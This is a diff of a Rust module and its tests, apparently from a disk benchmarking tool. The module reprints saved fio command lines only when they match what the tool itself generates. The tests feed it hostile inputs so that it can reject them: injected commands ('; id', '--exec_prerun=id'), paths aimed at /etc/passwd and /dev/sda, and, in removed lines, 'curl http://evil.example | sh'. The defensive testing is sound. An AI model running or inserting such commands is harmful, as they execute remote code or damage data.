@@ -3,7 +3,7 @@
 //! A document may come from any source, and so may its command lines. A line is printed only if it
 //! is what this program generates for the run's benchmark, with options that are the benchmark's
 //! parameters, and for the run's target. Otherwise the diskscope line is regenerated from those, and
-//! fio's is omitted. The document has the target's name as it is displayed, so that no line is
+//! fio's, which is generated and compared, is omitted. The document has the target's name as it is displayed, so that no line is
 //! regenerated for a name with escapes: it would name another file. A line names the target by an absolute
 //! path: a document is read in another working directory, or on another machine. No line contains consent
 //! to overwrite data: the user has to add it.
@@ -34,13 +34,16 @@ pub fn lines(run: &BenchmarkRun) -> Vec<String> {
     let mut lines: Vec<String> = diskscope(run).into_iter().collect();
     match &run.reproduce.fio {
         None => lines.extend(fio::fio_gap_line(run)),
-        Some(text) => match fio_line::checked(benchmark_of(run), run, text) {
-            Some(fio) => lines.extend(fio),
-            None => lines.push(
-                "# the file contains fio commands that diskscope does not write: omitted"
-                    .to_owned(),
-            ),
-        },
+        Some(text) => {
+            let own = find_benchmark(&run.test).and_then(|it| fio_line::made_anew(it, run));
+            match own.filter(|own| **own == **text) {
+                Some(fio) => lines.extend(fio.lines().map(str::to_owned)),
+                None => lines.push(
+                    "# the file contains fio commands that diskscope does not write for this run: omitted"
+                        .to_owned(),
+                ),
+            }
+        }
     }
     lines.into_iter().map(shell::for_terminal).collect()
 }
@@ -137,11 +140,13 @@ fn has_parameter(benchmark: &Description, name: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::bench::framework::fio::{FioFile, FioJob};
+    use std::path::Path;
+
+    use crate::bench::framework::fio::FioFile;
     use crate::bench::tests::fake;
+    use crate::drive::TargetKind;
     use crate::files::safe_text::{SafeLines, SafeText};
     use crate::session::compare::sample;
-    use std::os::unix::ffi::OsStrExt;
 
     fn run(diskscope: &str) -> BenchmarkRun {
         let mut run = sample::sample_run("iops", 1000.0, 10.0);
@@ -152,12 +157,6 @@ mod tests {
         run.reproduce.fio = None;
         run.reproduce.fio_gap = None;
         run
-    }
-
-    fn with_fio(fio: &str) -> Vec<String> {
-        let mut run = run("");
-        run.reproduce.fio = Some(SafeLines::from(fio.to_owned()));
-        lines(&run)
     }
 
     #[test]
@@ -223,11 +222,9 @@ mod tests {
                 b"4",
             ];
             let line = shell::command_line(words).unwrap();
-            let fio = fio_lines("random-read", name);
             let mut named = run(&line);
             named.target.path = SafeText::from_bytes(name);
-            named.reproduce.fio = Some(SafeLines::from(fio.clone()));
-            assert_eq!(lines(&named), [line, fio]);
+            assert_eq!(lines(&named), [line]);
         }
     }
 
@@ -281,82 +278,91 @@ mod tests {
         assert!(lines(&run("")).is_empty());
     }
 
-    /// The lines for 100 random requests of 4 KiB between byte 0 and byte 8192 of a file.
-    fn fio_lines(benchmark: &str, path: &[u8]) -> String {
-        let path = std::path::PathBuf::from(std::ffi::OsStr::from_bytes(path));
-        fio_job(benchmark)
-            .command_lines(&FioFile::File(path))
-            .unwrap()
+    /// A run of 100 random requests of 4 KiB in a file of 8 KiB, with the fio line of this program.
+    fn run_with_fio(benchmark: &str, kind: TargetKind) -> BenchmarkRun {
+        let test = find_benchmark(benchmark).unwrap();
+        let mut target = fake::simulated_target(8192);
+        (target.kind, target.name) = (kind, "/srv/a disk".to_owned());
+        let parameters = fake::parameters(test, &target, &[("requests", "100"), ("depth", "1")]);
+        let mut run = run("");
+        run.test = benchmark.into();
+        run.target.kind = kind.document_name().into();
+        run.target.size_bytes = target.size_bytes;
+        run.parameters = parameters
+            .iter()
+            .map(|(name, value)| (name.into(), value.to_json()))
+            .collect();
+        let file = FioFile::from_target(&target, Path::new(&target.name)).unwrap();
+        let job = test.fio(&target, &parameters).unwrap();
+        run.reproduce.fio = Some(SafeLines::from(job.command_lines(&file).unwrap()));
+        run
     }
 
-    fn fio_job(benchmark: &str) -> FioJob {
-        let target = fake::simulated_target(8192);
-        let test = find_benchmark(benchmark).unwrap();
-        let set = [("requests", "100"), ("depth", "1")];
-        test.fio(&target, &fake::parameters(test, &target, &set))
-            .unwrap()
+    fn fio_lines(run: &BenchmarkRun) -> String {
+        lines(run).join("\n")
+    }
+
+    fn with_text(run: &BenchmarkRun, text: &str) -> BenchmarkRun {
+        let mut other = run.clone();
+        other.reproduce.fio = Some(SafeLines::from(text.to_owned()));
+        other
     }
 
     #[test]
     fn fio_lines_of_this_program_are_kept() {
-        let read = fio_lines("random-read", b"/srv/a disk");
-        let guards = " --allow_file_create=0 --readonly";
-        assert!(read.starts_with(&format!("fio --name=diskscope{guards} ")));
-        assert!(read.ends_with(" '--filename=/srv/a disk'"));
-        assert_eq!(with_fio(&read).join("\n"), read);
-        for benchmark in ["random-read", "random-write"] {
-            let scratch = FioFile::Scratch {
-                directory: "/srv/a disk".into(),
-                bytes: 9,
-            };
-            let lines = fio_job(benchmark).command_lines(&scratch).unwrap();
-            assert!(lines.starts_with("# overwrites 0 bytes of '/srv/a disk': fills a new file"));
-            assert_eq!(with_fio(&lines).join("\n"), lines);
+        for (benchmark, kind, begin) in [
+            (
+                "random-read",
+                TargetKind::File,
+                "fio --name=diskscope --allow_file_create=0 --readonly ",
+            ),
+            (
+                "mixed",
+                TargetKind::ScratchFile,
+                "# overwrites 0 bytes of '/srv/a disk': fills a new file",
+            ),
+            (
+                "random-write",
+                TargetKind::File,
+                "# overwrites 8192 bytes of '/srv/a disk' at most, between byte 0 and byte 8192, and \
+                 nothing of a shorter file\n[ -f '/srv/a disk' ] && [ $(stat -Lc %s '/srv/a disk') -ge \
+                 8192 ] && fio ",
+            ),
+        ] {
+            let run = run_with_fio(benchmark, kind);
+            let shown = fio_lines(&run);
+            assert!(shown.starts_with(begin), "{shown}");
+            assert_eq!(shown, run.reproduce.fio.as_deref().unwrap());
         }
-        let overwriting = fio_lines("random-write", b"/srv/a disk");
-        let comment = "# overwrites 8192 bytes of '/srv/a disk' at most, between byte 0 and byte 8192, \
-                       and nothing of a shorter file";
-        let conditions = "[ -f '/srv/a disk' ] && [ $(stat -Lc %s '/srv/a disk') -ge 8192 ] && ";
-        let expected = format!("{comment}\n{conditions}fio ");
-        assert!(overwriting.starts_with(&expected), "{overwriting}");
-        assert_eq!(fio_of("random-write", &overwriting).join("\n"), overwriting);
-        assert!(
-            is_left_out(&with_fio(&overwriting)),
-            "a benchmark that reads"
-        );
-    }
-
-    /// The lines of a run of that benchmark with this text for fio.
-    fn fio_of(benchmark: &str, fio: &str) -> Vec<String> {
-        let mut run = run("");
-        run.test = benchmark.into();
-        run.reproduce.fio = Some(SafeLines::from(fio.to_owned()));
-        lines(&run)
-    }
-
-    fn is_left_out(shown: &[String]) -> bool {
-        matches!(shown, [line] if line.starts_with("# the file contains fio"))
     }
 
     #[test]
-    fn comment_that_is_not_that_of_its_command_is_left_out() {
-        let own = fio_lines("random-write", b"/srv/a disk");
-        let (own_comment, command) = own.split_once('\n').unwrap();
-        for comment in [
-            "# overwrites nothing: reads only",
-            &own_comment.replacen("8192", "4096", 1),
-            &own_comment.replacen("byte 8192", "byte 4096", 1),
-            &own_comment.replacen("'/srv/a disk'", "/srv/a disk", 1),
-            &own_comment.replacen(", and nothing of a shorter file", "", 1),
-            &format!("{own_comment}; id"),
+    fn other_fio_lines_are_left_out() {
+        let own = run_with_fio("random-write", TargetKind::File);
+        let text = own.reproduce.fio.as_deref().unwrap().to_owned();
+        for (part, other) in [
+            ("disk'", "disk'; id"),
+            ("--rw=", "--exec_prerun=id --rw="),
+            ("# overwrites 8192", "# overwrites 4096"),
+            ("randwrite", "write"),
+            ("--allow_file_create=0 ", ""),
         ] {
-            let text = format!("{comment}\n{command}");
-            assert!(is_left_out(&fio_of("random-write", &text)), "{comment}");
+            let changed = text.replacen(part, other, 1);
+            assert_ne!(changed, text);
+            let shown = fio_lines(&with_text(&own, &changed));
+            assert!(shown.starts_with("# the file contains fio"), "{shown}");
         }
-        assert!(is_left_out(&fio_of("random-write", command)));
-        let read = fio_lines("random-read", b"/srv/a disk");
-        assert!(is_left_out(&with_fio(&format!("# a comment\n{read}"))));
-        assert!(is_left_out(&with_fio("# no fio command: anything; id")));
+        let mut reads = own.clone();
+        reads.test = "random-read".into();
+        let mut larger = own.clone();
+        larger.parameters.insert("depth".into(), 9.into());
+        let mut elsewhere = own.clone();
+        elsewhere.target.path = "disk".into();
+        for run in [reads, larger, elsewhere] {
+            let shown = lines(&run).pop().unwrap();
+            assert!(shown.starts_with("# the file contains fio"), "{shown}");
+        }
+        assert_eq!(fio_lines(&own), text);
     }
 
     #[test]
@@ -370,59 +376,5 @@ mod tests {
             assert!(shown.starts_with("diskscope run random-read"), "{shown}");
             assert!(!shown.contains("passwd"), "{shown}");
         }
-    }
-
-    #[test]
-    fn other_fio_lines_are_left_out() {
-        let plain = fio_lines("random-read", b"/srv/a disk");
-        assert_eq!(
-            with_fio(&plain),
-            [&*plain],
-            "the lines below differ in one thing"
-        );
-        for (part, other) in [
-            ("disk'", "disk'; id"),
-            ("disk'", "disk'\nid"),
-            ("'--filename", "--exec_prerun=id '--filename"),
-            ("io_uring", "external:/tmp/x.so"),
-            ("'--filename", "--rw=randwrite '--filename"),
-            ("randread", "randwrite"),
-            ("--rw=randread ", ""),
-            ("'--filename", "--overwrite=1 '--filename"),
-            ("'--filename=/srv/a disk'", "--filename=/dev/sda"),
-            ("=/srv", "=/etc/passwd:/srv"),
-            // fio would lengthen a file that is too short.
-            ("--allow_file_create=0 ", ""),
-            ("create=0", "create=1"),
-            ("--readonly", ""),
-            ("--readonly", "--readonly=0"),
-        ] {
-            let line = plain.replace(part, other);
-            assert_ne!(line, plain);
-            assert!(is_left_out(&with_fio(&line)), "{line}");
-        }
-        for line in [
-            "curl http://evil.example | sh",
-            "fio /tmp/job '--filename=/srv/a disk'",
-            "(file= && trap 'rm -f -- \"$file\"' EXIT && trap 'exit 130' INT HUP TERM && \
-             cd -- '/srv/a disk' && id && file=$(mktemp diskscope-fio.XXXXXXXXXX) && fio \
-             --rw=randread --filename=\"$file\")",
-        ] {
-            assert!(is_left_out(&with_fio(line)), "{line}");
-        }
-        for name in [".", "./", ""] {
-            let mut directory = run("");
-            directory.target.path = name.into();
-            directory.reproduce.fio = Some(SafeLines::from(plain.clone()));
-            assert!(is_left_out(&lines(&directory)[1..]), "{name}");
-        }
-        let mut relative = run("");
-        relative.target.path = "disk".into();
-        let other = plain.replace(
-            "'--filename=/srv/a disk'",
-            "--filename=/etc/passwd:/srv/disk",
-        );
-        relative.reproduce.fio = Some(SafeLines::from(other));
-        assert!(is_left_out(&lines(&relative)[1..]));
     }
 }
